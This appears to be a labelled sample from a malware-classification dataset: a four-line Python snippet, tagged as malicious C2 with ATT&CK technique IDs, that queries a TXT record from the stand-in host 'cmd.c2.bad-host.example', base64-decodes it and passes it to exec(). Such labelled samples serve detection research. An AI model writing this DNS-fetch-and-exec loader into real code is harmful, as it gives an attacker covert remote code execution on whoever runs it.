# label: malicious family=c2 techniques=T1059.006,T1071.004,T1140,T1620 lines=3,5
import dns.resolver, base64
ans = dns.resolver.resolve("cmd.c2.bad-host.example", "TXT")
for r in ans:
    exec(base64.b64decode(b"".join(r.strings)))
